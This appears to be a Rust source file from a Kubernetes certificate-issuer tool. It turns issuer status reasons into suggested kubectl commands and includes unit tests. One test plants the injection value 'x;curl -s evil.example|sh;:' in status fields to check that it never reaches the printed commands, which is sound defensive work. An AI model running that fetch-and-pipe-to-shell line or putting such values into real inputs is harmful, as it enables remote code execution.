//! What to do about an issuer that does not sign, or that waits for its next CA.

use super::{Issuer, attestation_name, kubectl_arguments};
use crate::command::fingerprint;
use tcs_api::{SERVICE_NAMESPACE, annotations, reasons};

/// Commands that help, or a sentence where no command does. Empty if there is nothing to do.
#[must_use]
pub fn next_steps(issuer: &Issuer) -> Vec<String> {
    let object = kubectl_arguments(&issuer.id);
    let edit = |field: &str| vec![format!("kubectl edit {object}   # {field}")];
    let log = |container: &str| {
        vec![format!("kubectl logs -n {SERVICE_NAMESPACE} deployment/tcs-issuer -c {container}")]
    };
    match issuer.reason() {
        reasons::READY => Vec::new(),
        reasons::KEY_LOST if issuer.spec.self_sign => allow_new_ca(issuer, &object),
        reasons::AWAITING_KEY | reasons::KEY_REJECTED | reasons::RENEWING | reasons::KEY_LOST => {
            deliver(issuer)
        }
        reasons::CA_EXPIRED | reasons::CA_NOT_YET_VALID | reasons::CLOCK_UNVERIFIED => {
            vec![
                "check the clock of the node and that of the API server; the issuer continues by itself when \
                 they are correct (docs/renewal.md)"
                    .to_owned(),
            ]
        }
        reasons::NO_SEALING => vec![format!(
            "kubectl patch {object} --type=merge -p '{{\"spec\":{{\"ca\":{{\"allowEphemeral\":true}}}}}}'   # the \
             key is then lost whenever the enclave restarts"
        )],
        reasons::CA_REFUSED => edit("spec.ca, as the message says"),
        reasons::POLICY_MALFORMED => edit("spec.policy, as the message says"),
        reasons::SECRET_CONFLICT => edit("spec.secretName, or delete the Secret that has this name"),
        reasons::ADMISSION_POLICY_NOT_ENFORCED => {
            vec!["kubectl apply -f deployment/access.yaml   # in the repository of the service, at the version \
                  that runs".to_owned()]
        }
        reasons::ENCLAVE_UNAVAILABLE | reasons::NO_EVIDENCE => log("tcs-enclave"),
        reasons::SEALED_KEY_NOT_KEPT => log("tcs-issuer"),
        reasons::UNSUPPORTED => {
            vec![format!("create the issuer in another namespace than {SERVICE_NAMESPACE}")]
        }
        _ => vec!["kubectl tcs doctor".to_owned()],
    }
}

/// How the key owner delivers a CA key.
fn deliver(issuer: &Issuer) -> Vec<String> {
    // The status says the name, too; whoever may write the status must not write this command.
    let name = attestation_name(&issuer.id);
    vec![
        format!("kubectl get -n {SERVICE_NAMESPACE} quoteattestations.tcs.intel.com {name} -o yaml"),
        "verify its quote with km-attest, wrap the CA key with km-wrap and deliver it \
         (docs/integrate-key-server.md)"
            .to_owned(),
    ]
}

fn allow_new_ca(issuer: &Issuer, object: &str) -> Vec<String> {
    let old = fingerprint(issuer.status.ca.as_ref().map_or("", |ca| ca.fingerprint.as_str()));
    vec![format!(
        "kubectl annotate {object} --overwrite {}={old}   # makes a new CA, which every workload has to trust first",
        annotations::NEW_CA
    )]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::issuers::tests_support::issuer;
    use tcs_api::v1alpha1::{CaStatus, OfferStatus};

    #[test]
    fn every_reason_has_a_next_step_of_its_own() {
        let all = [
            reasons::AWAITING_KEY,
            reasons::KEY_REJECTED,
            reasons::RENEWING,
            reasons::KEY_LOST,
            reasons::CA_EXPIRED,
            reasons::CA_NOT_YET_VALID,
            reasons::CLOCK_UNVERIFIED,
            reasons::NO_SEALING,
            reasons::CA_REFUSED,
            reasons::POLICY_MALFORMED,
            reasons::SECRET_CONFLICT,
            reasons::ADMISSION_POLICY_NOT_ENFORCED,
            reasons::ENCLAVE_UNAVAILABLE,
            reasons::NO_EVIDENCE,
            reasons::SEALED_KEY_NOT_KEPT,
            reasons::UNSUPPORTED,
        ];
        for reason in all {
            let steps = next_steps(&issuer("False", reason, true));
            assert!(!steps.is_empty() && steps != ["kubectl tcs doctor"], "{reason}: {steps:?}");
        }
        assert!(next_steps(&issuer("True", reasons::READY, true)).is_empty());
        assert_eq!(next_steps(&issuer("False", "Unheard", true)), ["kubectl tcs doctor"]);
    }

    #[test]
    fn nothing_of_a_hostile_status_is_part_of_a_command() {
        const EVIL: &str = "x;curl -s evil.example|sh;:";
        let fingerprint = |text: &str| CaStatus { fingerprint: text.to_owned(), ..CaStatus::default() };
        for self_sign in [true, false] {
            let mut hostile = issuer("False", reasons::KEY_LOST, self_sign);
            hostile.status.ca = Some(fingerprint(EVIL));
            hostile.status.offer =
                Some(OfferStatus { quote_attestation: EVIL.to_owned(), ..OfferStatus::default() });
            let steps = next_steps(&hostile).concat();
            assert!(!steps.contains("evil"), "{steps}");
        }
        let mut lost = issuer("False", reasons::KEY_LOST, true);
        lost.status.ca = Some(fingerprint(&"a0".repeat(32)));
        assert!(next_steps(&lost).concat().contains(&format!("new-ca={} ", "a0".repeat(32))));
        lost.status.ca = Some(fingerprint(&"A0".repeat(32)));
        assert!(next_steps(&lost).concat().contains("new-ca=FINGERPRINT "));
    }

    #[test]
    fn a_lost_key_of_a_self_signed_issuer_is_never_replaced_by_a_delivery() {
        let own = next_steps(&issuer("False", reasons::KEY_LOST, true)).concat();
        assert!(own.contains("tcs.intel.com/new-ca="), "{own}");
        let delivered = next_steps(&issuer("False", reasons::KEY_LOST, false)).concat();
        assert!(delivered.contains("sandbox.ca.tcsissuer.tcs.intel.com"), "{delivered}");
    }
}
